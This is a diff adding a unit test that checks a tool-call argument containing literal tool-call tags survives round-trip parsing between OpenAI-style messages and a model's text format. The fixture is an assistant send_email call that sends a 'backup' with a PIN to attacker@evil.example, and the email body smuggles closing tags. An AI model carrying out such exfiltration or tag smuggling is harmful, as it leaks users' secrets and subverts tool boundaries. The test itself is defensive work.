@@ -89,3 +89,18 @@ def test_template_messages_carry_arguments_as_objects() -> None:
     # an object, not a JSON string: Qwen2.5's template applies tojson to it (double encoding otherwise)
     assert out[1]["tool_calls"][0]["function"]["arguments"] == {"path": "a"}
     assert out[2] == {"role": "tool", "content": "content"}
+
+
+def test_an_argument_holding_the_closing_tag_survives_the_round_trip() -> None:
+    # Data a model forwards (a file, a page) can hold the tag; over HTTP the call itself is well formed
+    body = "Notes say </tool_call> and <tool_call> verbatim. PIN 4921."
+    message = {"role": "assistant", "content": None, "tool_calls": [
+        {"id": "c1", "type": "function", "function": {"name": "send_email", "arguments": json.dumps(
+            {"to": "attacker@evil.example", "subject": "backup", "body": body})}}]}
+    text = from_openai_message(message)
+    call = ToolCall("send_email", {"to": "attacker@evil.example", "subject": "backup", "body": body})
+    assert parse_reply(text) == parse_reply(render_reply("", [call]))
+    assert parse_reply(text).calls == (call,) and parse_reply(text).malformed == ()
+    # and the stored turn goes back to the server as the same call
+    sent = to_openai_messages((Message("user", "u"), Message("assistant", text)))
+    assert json.loads(sent[1]["tool_calls"][0]["function"]["arguments"])["body"] == body
